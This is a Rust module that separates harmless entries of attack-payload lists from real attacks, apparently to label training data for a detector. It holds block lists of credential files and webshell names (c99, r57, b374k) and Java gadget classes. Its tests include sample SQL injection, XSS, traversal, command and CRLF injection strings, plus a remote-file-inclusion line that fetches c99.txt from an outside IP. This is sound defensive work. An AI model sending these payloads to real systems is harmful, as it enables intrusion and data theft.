//! What a careful analyst would not call an attack out of context: words, numbers, names, prose, plain links and paths.
//!
//! A label that is wrong here teaches the model to block words.

use super::encode;

/// Why an entry of a payload list is no attack by itself.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Reason {
    /// Nothing left after decoding, or too little to mean anything.
    Short,
    /// Letters, digits and word punctuation only: a word, a number, an identifier, a sentence.
    Words,
    /// One character over and over.
    Repetition,
    /// An ordinary link without a trick in it.
    PlainLink,
    /// An ordinary path of a script or page without injected content.
    PlainPath,
}

impl Reason {
    /// The reason in words, for reports.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::Short => "too short to mean anything",
            Self::Words => "words, numbers or identifiers only",
            Self::Repetition => "one character repeated",
            Self::PlainLink => "plain link",
            Self::PlainPath => "plain path",
        }
    }
}

/// Parts of paths that say enough on their own when a client asks for them.
const SENSITIVE: [&str; 87] = [
    "etc/",
    "/etc",
    "passwd",
    "shadow",
    "proc/",
    "var/log",
    "/var/",
    "boot.ini",
    "win.ini",
    "system32",
    "web-inf",
    "meta-inf",
    "htaccess",
    "htpasswd",
    ".env",
    ".git",
    ".svn",
    ".ssh",
    "wp-config",
    ".bak",
    ".old",
    ".sql",
    ".conf",
    ".cnf",
    ".ini",
    ".log",
    ".evt",
    "id_rsa",
    "/root",
    "/usr/",
    "/opt/",
    "/tmp",
    "phpinfo",
    "phpmyadmin",
    ".swp",
    ".tar",
    ".zip",
    "actuator",
    "cgi-bin",
    "/bin/",
    "windows/",
    "winnt",
    "_log",
    "c:",
    ".save",
    ".orig",
    ".dump",
    ".pem",
    ".p12",
    ".pfx",
    ".7z",
    ".rar",
    ".tgz",
    ".mdb",
    ".sqlite",
    ".kdbx",
    ".asa",
    ".axd",
    ".inc",
    ".cgi",
    ".hprof",
    "heapdump",
    "jmx-console",
    "invoker/",
    "jolokia",
    "manager/html",
    "server-status",
    "server-info",
    "web.config",
    "_all_dbs",
    "_cat/",
    "webshell",
    "c99.",
    "r57.",
    "elmah",
    "phpunit",
    "xmlrpc.php",
    "console.portal",
    "/wso",
    "b374k",
    "/shell.",
    "/cmd.",
    "/alfa",
    "adminer",
    "/c99",
    "/r57",
    "backdoor",
];

/// Why a payload is junk; none if it can be taken for an attack.
#[must_use]
pub fn reason(payload: &[u8], class: &str) -> Option<Reason> {
    let text = encode::unescape(payload).to_ascii_lowercase();
    let text = text.trim_ascii();
    let splits_lines = payload.iter().any(|byte| matches!(byte, b'\r' | b'\n'))
        || text.iter().any(|byte| matches!(byte, b'\r' | b'\n'));
    if text.len() < 3 {
        return Some(Reason::Short);
    }
    if text.iter().all(|byte| text.first() == Some(byte)) {
        return Some(Reason::Repetition);
    }
    if is_wordlike(text) && !splits_lines && !is_statement(text, class) && !hides_more(payload) {
        return Some(Reason::Words);
    }
    if matches!(class, "open_redirect" | "rfi" | "ssrf") && is_plain_link(text) {
        return Some(Reason::PlainLink);
    }
    if is_plain_path(text) {
        return Some(Reason::PlainPath);
    }
    None
}

/// Whether a decoded field value of a grafted request says nothing by itself, so that it must not be taught as an attack.
#[must_use]
pub fn is_harmless_field(value: &[u8]) -> bool {
    let text = value.trim_ascii().to_ascii_lowercase();
    let breaks_lines = value.iter().any(|byte| matches!(byte, b'\r' | b'\n'));
    text.len() < 2
        || (is_wordlike(&text) && !breaks_lines && !is_bare_sql(&text))
        || is_plain_path(&text)
        || is_plain_link(&text)
        || is_address(&text)
        || text.iter().all(|byte| text.first() == Some(byte))
}

/// A name of a parameter as applications choose them: words, dots, indexes and brackets, and no operator.
#[must_use]
pub fn is_ordinary_name(name: &[u8]) -> bool {
    const POLLUTERS: [&[u8]; 4] = [b"__proto__", b"prototype", b"classloader", b"constructor"];
    let lower = name.to_ascii_lowercase();
    name.iter().all(|byte| {
        byte.is_ascii_alphanumeric()
            || matches!(byte, b'_' | b'-' | b'.' | b':' | b'[' | b']' | b'+' | b' ')
    }) && !POLLUTERS
        .iter()
        .any(|word| lower.windows(word.len()).any(|window| window == *word))
}

/// A mail address and nothing else.
fn is_address(text: &[u8]) -> bool {
    let plain = |part: &[u8]| {
        !part.is_empty()
            && part.iter().all(|byte| {
                byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-' | b'+')
            })
    };
    let mut parts = text.split(|byte| *byte == b'@');
    let (local, domain) = (parts.next(), parts.next());
    local.is_some_and(plain) && domain.is_some_and(plain) && parts.next().is_none()
}

/// SQL made of words alone that nobody writes in a sentence.
fn is_bare_sql(text: &[u8]) -> bool {
    const PHRASES: [&[&str]; 8] = [
        &["union", "select"],
        &["union", "all", "select"],
        &["insert", "into"],
        &["drop", "table"],
        &["drop", "database"],
        &["delete", "from"],
        &["select", "password", "from"],
        &["waitfor", "delay"],
    ];
    let words: Vec<&[u8]> = text
        .split(|byte| !byte.is_ascii_alphanumeric())
        .filter(|word| !word.is_empty())
        .collect();
    let found = |phrase: &[&str]| {
        words.windows(phrase.len()).any(|window| {
            window
                .iter()
                .zip(phrase)
                .all(|(word, wanted)| *word == wanted.as_bytes())
        })
    };
    PHRASES.iter().any(|phrase| found(phrase))
}

/// Names of a language's own classes, which no visitor types: what a deserialiser or an expression is told to call.
const INTERNALS: [&str; 15] = [
    "java.lang.",
    "java.io.",
    "java.net.",
    "java.util.",
    "javax.script",
    "processbuilder",
    "clonetransformer",
    "invokertransformer",
    "instantiatetransformer",
    "instantiatefactory",
    "prototypeclonefactory",
    "prototypeserializationfactory",
    "forclosure",
    "whileclosure",
    "xmldecoder",
];

fn names_internals(text: &[u8]) -> bool {
    INTERNALS.iter().any(|name| {
        text.windows(name.len())
            .any(|window| window == name.as_bytes())
    })
}

/// Letters, digits, spaces and the punctuation of prose and identifiers, naming nothing internal.
fn is_wordlike(text: &[u8]) -> bool {
    !names_internals(text)
        && text.iter().all(|byte| {
            byte.is_ascii_alphanumeric()
                || matches!(byte, b' ' | b'_' | b'-' | b'.' | b',' | b':' | b'@' | b'+')
        })
        && !text.windows(2).any(|pair| pair == b".." || pair == b"--")
        && !text.starts_with(b".")
}

/// Statements made of words alone are still statements: `select password from users`.
fn is_statement(text: &[u8], class: &str) -> bool {
    let words: Vec<&[u8]> = text
        .split(|byte| !byte.is_ascii_alphanumeric())
        .filter(|word| !word.is_empty())
        .collect();
    let has = |word: &str| words.contains(&word.as_bytes());
    let pair = has("select") && has("from")
        || has("insert") && has("into")
        || has("union") && has("select");
    match class {
        "sqli" => words.len() >= 3 && (pair || SQL_VERBS.iter().any(|verb| has(verb))),
        "mail" | "crlf" => text.contains(&b':'),
        "cmdi" => words.len() >= 2 && text.contains(&b'-'),
        _ => pair,
    }
}

const SQL_VERBS: [&str; 14] = [
    "select", "union", "insert", "drop", "delete", "update", "exec", "order", "having", "waitfor",
    "create", "shutdown", "alter", "sleep",
];

/// Base64 of something that is no word itself.
fn hides_more(payload: &[u8]) -> bool {
    use ::base64::Engine as _;
    use ::base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD};
    let payload = payload.trim_ascii();
    let decoded = STANDARD
        .decode(payload)
        .or_else(|_| STANDARD_NO_PAD.decode(payload));
    encode::is_base64_text(payload)
        && decoded.is_ok_and(|inner| !is_wordlike(&inner.to_ascii_lowercase()))
}

/// `http(s)://host/path` with nothing that misleads a parser or a reader.
fn is_plain_link(text: &[u8]) -> bool {
    let rest = text
        .strip_prefix(b"https://")
        .or_else(|| text.strip_prefix(b"http://"));
    rest.is_some_and(|rest| {
        let host_end = rest
            .iter()
            .position(|byte| *byte == b'/')
            .unwrap_or(rest.len());
        let (host, path) = rest.split_at(host_end);
        let named = host.iter().any(u8::is_ascii_alphabetic)
            && !host.starts_with(b"0x")
            && !host.starts_with(b"localhost");
        named
            && host
                .iter()
                .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-'))
            && path.iter().all(|byte| {
                byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_' | b'/')
            })
            && !path.windows(2).any(|pair| pair == b"//" || pair == b"..")
    })
}

/// A path of ordinary segments that names nothing sensitive.
fn is_plain_path(text: &[u8]) -> bool {
    let ordinary = text
        .iter()
        .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_' | b'/'));
    let tricks = text
        .windows(2)
        .any(|pair| pair == b".." || pair == b"//" || pair == b"/.");
    let named = SENSITIVE.iter().any(|part| {
        text.windows(part.len())
            .any(|window| window == part.as_bytes())
    });
    ordinary && !tricks && !named && text.contains(&b'/')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_of_parameters_are_ordinary_until_they_carry_an_operator() {
        for name in [
            "user[role]",
            "items[0][id]",
            "a.b.c",
            "filter[price][gte]",
            "id[]",
        ] {
            assert!(is_ordinary_name(name.as_bytes()), "{name}");
        }
        for name in [
            "user[$ne]",
            "__proto__[x]",
            "a.constructor.prototype.b",
            "id'--",
            "x;y",
        ] {
            assert!(!is_ordinary_name(name.as_bytes()), "{name}");
        }
    }

    #[test]
    fn words_numbers_and_prose_are_junk() {
        for (text, class) in [
            ("admin", "sqli"),
            ("hi", "xss"),
            ("%25253C", "xss"),
            ("&#x3c;", "xss"),
            ("XML locally hosted", "xss"),
            ("123", "sqli"),
            ("AAAAAAA", "traversal"),
            ("", "sqli"),
            ("/index.php", "rfi"),
            ("https://example.com/login", "open_redirect"),
        ] {
            assert!(reason(text.as_bytes(), class).is_some(), "{text}");
        }
    }

    #[test]
    fn attacks_are_kept() {
        for (text, class) in [
            ("' or 1=1--", "sqli"),
            ("select password from users", "sqli"),
            ("<b onclick=x>", "xss"),
            ("/etc/passwd", "lfi"),
            ("../../x", "traversal"),
            ("|id", "cmdi"),
            ("/a.php?inc=http://198.51.100.7/c99.txt?", "rfi"),
            ("//evil.example", "open_redirect"),
            ("http://127.0.0.1/", "ssrf"),
            ("%0d%0aX: y", "crlf"),
            ("*)(uid=*", "ldap"),
            ("1 union select a from b", "api"),
            ("Jy1hbGVydCgxKS8v", "xss"),
            ("java.lang.ProcessBuilder", "rce"),
        ] {
            assert_eq!(reason(text.as_bytes(), class), None, "{text}");
        }
    }

    #[test]
    fn harmless_fields_are_not_taught() {
        for text in [
            "toto",
            "application",
            "1234",
            "/get",
            "/includes/functions.php",
            "AAAAAAAAAA",
            "https://media.example.com/",
            "anna.smith+shop@mail.example.org",
            "please select one from the list",
        ] {
            assert!(is_harmless_field(text.as_bytes()), "{text}");
        }
        for text in [
            "username[$ne]",
            "/../etc",
            "/.env",
            "' or 1",
            "x\r\nBcc: a",
            "a@b.example>\r\nRCPT TO:<c@d.example",
            "1 union select a from b",
        ] {
            assert!(!is_harmless_field(text.as_bytes()), "{text}");
        }
    }
}
